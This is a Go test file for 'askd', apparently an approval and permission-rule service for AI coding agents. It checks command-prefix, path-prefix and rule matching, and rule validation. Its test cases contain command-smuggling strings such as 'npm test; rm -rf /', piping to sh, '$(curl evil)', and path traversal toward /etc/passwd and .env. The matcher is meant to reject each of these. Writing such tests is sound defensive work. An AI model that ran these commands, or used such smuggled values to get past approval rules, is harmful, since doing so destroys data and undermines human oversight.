package askd_test

import (
	"encoding/json"
	"strings"
	"testing"
	"time"

	"github.com/askd-dev/askd"
)

func TestCommandHasPrefix(t *testing.T) {
	tests := []struct {
		name, command, prefix string
		want                  bool
	}{
		{"the prefix alone", "npm test", "npm test", true},
		{"with arguments", "npm test -- --watch", "npm test", true},
		{"after a tab", "npm test\t--ci", "npm test", true},
		{"leading blanks", "  npm test", "npm test", true},
		{"trailing blank", "npm test ", "npm test", true},
		{"not at a word boundary", "npm testify", "npm test", false},
		{"a longer word", "npm test-evil", "npm test", false},
		{"another command", "npm run build", "npm test", false},
		{"prefix inside", "echo npm test", "npm test", false},
		{"two spaces", "npm  test", "npm test", false},
		{"no-break space is no boundary", "npm test\u00a0x", "npm test", false},
		{"empty prefix", "npm test", "", false},
		// Never past a shell operator or substitution, anywhere.
		{"semicolon", "npm test; rm -rf /", "npm test", false},
		{"semicolon without space", "npm test;rm -rf /", "npm test", false},
		{"and", "npm test && curl evil", "npm test", false},
		{"or", "npm test || curl evil", "npm test", false},
		{"background", "npm test & curl evil", "npm test", false},
		{"pipe", "npm test | sh", "npm test", false},
		{"redirect out", "npm test > /etc/passwd", "npm test", false},
		{"redirect in", "npm test < /dev/tty", "npm test", false},
		{"process substitution", "npm test <(curl evil)", "npm test", false},
		{"command substitution", "npm test $(curl evil)", "npm test", false},
		{"backquotes", "npm test `curl evil`", "npm test", false},
		{"line break", "npm test\nrm -rf /", "npm test", false},
		{"carriage return", "npm test\rrm -rf /", "npm test", false},
		{"quoted operator still refused", "npm test ';'", "npm test", false},
		{"other control character", "npm test \x1b[2J", "npm test", false},
		{"a dollar alone is a word", "npm test -- --grep $HOME", "npm test", true},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			if got := askd.CommandHasPrefix(tt.command, tt.prefix); got != tt.want {
				t.Errorf("CommandHasPrefix(%q, %q) = %v, want %v", tt.command, tt.prefix, got, tt.want)
			}
		})
	}
}

func TestPathHasPrefix(t *testing.T) {
	tests := []struct {
		name, path, prefix string
		want               bool
	}{
		{"the prefix itself", "/repo/src", "/repo/src", true},
		{"under it", "/repo/src/a/b.go", "/repo/src", true},
		{"a sibling with the same start", "/repo/srcs/a.go", "/repo/src", false},
		{"above it", "/repo/a.go", "/repo/src", false},
		{"climbing out", "/repo/src/../../etc/passwd", "/repo/src", false},
		{"climbing and back", "/repo/src/../src/a.go", "/repo/src", false},
		{"doubled slashes are cleaned", "/repo//src/a.go", "/repo/src", true},
		{"a dot element", "/repo/./src/a.go", "/repo/src", true},
		{"relative path", "repo/src/a.go", "/repo/src", false},
		{"home shorthand", "~/repo/src/a.go", "/repo/src", false},
		{"control character", "/repo/src/a\n.go", "/repo/src", false},
		{"root prefix", "/etc/hosts", "/", true},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			if got := askd.PathHasPrefix(tt.path, tt.prefix); got != tt.want {
				t.Errorf("PathHasPrefix(%q, %q) = %v, want %v", tt.path, tt.prefix, got, tt.want)
			}
		})
	}
}

func TestRuleMatches(t *testing.T) {
	bash := func(agent, session, command string) *askd.Ask {
		p, _ := json.Marshal(map[string]string{"command": command, "description": "run it"})
		return &askd.Ask{Kind: askd.KindApproval, Agent: agent, Session: session, ToolName: "Bash", Title: "Allow Bash: " + command, Payload: p}
	}
	edit := func(path string) *askd.Ask {
		p, _ := json.Marshal(map[string]string{"file_path": path})
		return &askd.Ask{Kind: askd.KindApproval, Agent: "agent-1", Session: "s1", ToolName: "Edit", Title: "Allow Edit: " + path, Payload: p}
	}
	approval := &askd.Ask{Kind: askd.KindApproval, Agent: "agent-1", Session: "s1", Title: "Run the migration?"}
	tool := &askd.Rule{Agent: "agent-1", Session: "s1", Match: askd.MatchTool, Tool: "Bash"}
	prefix := &askd.Rule{Agent: "agent-1", Session: "s1", Match: askd.MatchPrefix, Tool: "Bash", Prefix: "npm test"}
	path := &askd.Rule{Agent: "agent-1", Session: "s1", Match: askd.MatchPrefix, Tool: "Edit", Prefix: "/repo/src"}
	title := &askd.Rule{Agent: "agent-1", Session: "s1", Match: askd.MatchTitle, Title: "Run the migration?"}
	push := func(command string) *askd.Ask {
		p, _ := json.Marshal(map[string]string{"command": command, "ref": "refs/heads/main"})
		return &askd.Ask{Kind: askd.KindApproval, Agent: "agent-1", Session: "s1", ToolName: "git push", Title: "Push 1 commit to main in shop", Payload: p}
	}
	toMain := &askd.Rule{Agent: "agent-1", Session: "s1", Match: askd.MatchPrefix, Tool: "git push", Prefix: "/srv/git/shop.git refs/heads/main"}
	tests := []struct {
		name string
		r    *askd.Rule
		a    *askd.Ask
		want bool
	}{
		{"tool", tool, bash("agent-1", "s1", "rm -rf build"), true},
		{"tool, another tool", tool, edit("/repo/src/a.go"), false},
		{"tool, another agent's session of the same name", tool, bash("agent-2", "s1", "ls"), false},
		{"tool, another session", tool, bash("agent-1", "s2", "ls"), false},
		{"tool, a request_approval", tool, approval, false},
		{"prefix", prefix, bash("agent-1", "s1", "npm test -- --ci"), true},
		{"prefix, operator after it", prefix, bash("agent-1", "s1", "npm test; rm -rf /"), false},
		{"prefix, another agent", prefix, bash("agent-2", "s1", "npm test"), false},
		{"path prefix", path, edit("/repo/src/a.go"), true},
		{"path prefix, outside", path, edit("/repo/src/../.env"), false},
		{"path prefix, on Bash", path, bash("agent-1", "s1", "/repo/src"), false},
		{"title", title, approval, true},
		{"git push to main", toMain, push("/srv/git/shop.git refs/heads/main"), true},
		{"git push to main2", toMain, push("/srv/git/shop.git refs/heads/main2"), false},
		{"git push to another repository", toMain, push("/srv/git/shop2.git refs/heads/main"), false},
		{"title, another title", title, &askd.Ask{Kind: askd.KindApproval, Agent: "agent-1", Session: "s1", Title: "Run the migration? Now"}, false},
		{"title, a permission prompt with that title", title, &askd.Ask{Kind: askd.KindApproval, Agent: "agent-1", Session: "s1", ToolName: "Bash", Title: "Run the migration?"}, false},
		{"title, a decision", title, &askd.Ask{Kind: askd.KindDecision, Agent: "agent-1", Session: "s1", Title: "Run the migration?"}, false},
		{"prefix, no command in the input", prefix, &askd.Ask{Kind: askd.KindApproval, Agent: "agent-1", Session: "s1", ToolName: "Bash", Payload: json.RawMessage(`{"cmd":"npm test"}`)}, false},
		{"prefix, command not a string", prefix, &askd.Ask{Kind: askd.KindApproval, Agent: "agent-1", Session: "s1", ToolName: "Bash", Payload: json.RawMessage(`{"command":["npm test"]}`)}, false},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			if got := tt.r.Matches(tt.a); got != tt.want {
				t.Errorf("Matches = %v, want %v", got, tt.want)
			}
		})
	}
}

func TestRuleInputValidate(t *testing.T) {
	now := time.Date(2026, 3, 14, 12, 0, 0, 0, time.UTC)
	tests := []struct {
		name string
		in   askd.RuleInput
		want string // "" for valid; else a part of the message
		til  time.Time
	}{
		{"for", askd.RuleInput{AskID: 1, Match: askd.MatchTool, Effect: askd.EffectAllow, RuleLife: askd.RuleLife{For: "8h"}}, "", now.Add(8 * time.Hour)},
		{"days", askd.RuleInput{AskID: 1, Match: askd.MatchTool, Effect: askd.EffectDeny, RuleLife: askd.RuleLife{For: "30d"}}, "", now.Add(30 * 24 * time.Hour)},
		{"expires_at", askd.RuleInput{AskID: 1, Match: askd.MatchPrefix, Prefix: "npm test", Effect: askd.EffectAllow, RuleLife: askd.RuleLife{ExpiresAt: "2026-03-14T18:00:00+01:00"}}, "", now.Add(5 * time.Hour)},
		{"no ask", askd.RuleInput{Match: askd.MatchTool, Effect: askd.EffectAllow, RuleLife: askd.RuleLife{For: "1h"}}, "ask_id: required", time.Time{}},
		{"no match", askd.RuleInput{AskID: 1, Effect: askd.EffectAllow, RuleLife: askd.RuleLife{For: "1h"}}, "match: required, one of tool, prefix, title", time.Time{}},
		{"bad match", askd.RuleInput{AskID: 1, Match: "glob", Effect: askd.EffectAllow, RuleLife: askd.RuleLife{For: "1h"}}, `match: "glob" is not one of tool, prefix, title`, time.Time{}},
		{"prefix without match prefix", askd.RuleInput{AskID: 1, Match: askd.MatchTool, Prefix: "npm", Effect: askd.EffectAllow, RuleLife: askd.RuleLife{For: "1h"}}, "prefix: only with match prefix", time.Time{}},
		{"match prefix without prefix", askd.RuleInput{AskID: 1, Match: askd.MatchPrefix, Effect: askd.EffectAllow, RuleLife: askd.RuleLife{For: "1h"}}, "prefix: required", time.Time{}},
		{"prefix with a line break", askd.RuleInput{AskID: 1, Match: askd.MatchPrefix, Prefix: "npm\ntest", Effect: askd.EffectAllow, RuleLife: askd.RuleLife{For: "1h"}}, "prefix: contains U+000A", time.Time{}},
		{"prefix with blanks around", askd.RuleInput{AskID: 1, Match: askd.MatchPrefix, Prefix: "npm test ", Effect: askd.EffectAllow, RuleLife: askd.RuleLife{For: "1h"}}, "prefix: starts or ends with a blank", time.Time{}},
		{"no effect", askd.RuleInput{AskID: 1, Match: askd.MatchTool, RuleLife: askd.RuleLife{For: "1h"}}, "effect: required, allow or deny", time.Time{}},
		{"bad effect", askd.RuleInput{AskID: 1, Match: askd.MatchTool, Effect: "approve", RuleLife: askd.RuleLife{For: "1h"}}, `effect: "approve" is not allow or deny`, time.Time{}},
		{"no life", askd.RuleInput{AskID: 1, Match: askd.MatchTool, Effect: askd.EffectAllow}, "for: required", time.Time{}},
		{"both lives", askd.RuleInput{AskID: 1, Match: askd.MatchTool, Effect: askd.EffectAllow, RuleLife: askd.RuleLife{For: "1h", ExpiresAt: "2026-03-14T18:00:00Z"}}, "for: give either for or expires_at, not both", time.Time{}},
		{"too long", askd.RuleInput{AskID: 1, Match: askd.MatchTool, Effect: askd.EffectAllow, RuleLife: askd.RuleLife{For: "31d"}}, "for: 31d is longer than a rule may live", time.Time{}},
		{"negative", askd.RuleInput{AskID: 1, Match: askd.MatchTool, Effect: askd.EffectAllow, RuleLife: askd.RuleLife{For: "-1h"}}, `for: "-1h" is not a positive duration`, time.Time{}},
		{"forever", askd.RuleInput{AskID: 1, Match: askd.MatchTool, Effect: askd.EffectAllow, RuleLife: askd.RuleLife{For: "forever"}}, `for: "forever" is not a positive duration`, time.Time{}},
		{"in the past", askd.RuleInput{AskID: 1, Match: askd.MatchTool, Effect: askd.EffectAllow, RuleLife: askd.RuleLife{ExpiresAt: "2026-03-14T11:00:00Z"}}, "expires_at: 2026-03-14T11:00:00Z is not in the future", time.Time{}},
		{"too far", askd.RuleInput{AskID: 1, Match: askd.MatchTool, Effect: askd.EffectAllow, RuleLife: askd.RuleLife{ExpiresAt: "2026-05-14T11:00:00Z"}}, "expires_at: 2026-05-14T11:00:00Z is more than 30 days ahead", time.Time{}},
		{"not a time", askd.RuleInput{AskID: 1, Match: askd.MatchTool, Effect: askd.EffectAllow, RuleLife: askd.RuleLife{ExpiresAt: "tomorrow"}}, `expires_at: "tomorrow" is not an RFC 3339 time`, time.Time{}},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			until, err := tt.in.Validate(now)
			if tt.want == "" {
				if err != nil || !until.Equal(tt.til) {
					t.Fatalf("Validate = %s, %v; want %s", until, err, tt.til)
				}
				return
			}
			if askd.ErrorCode(err) != askd.EINVALID || !strings.Contains(err.Error(), tt.want) {
				t.Fatalf("Validate = %v, want EINVALID with %q", err, tt.want)
			}
		})
	}
}
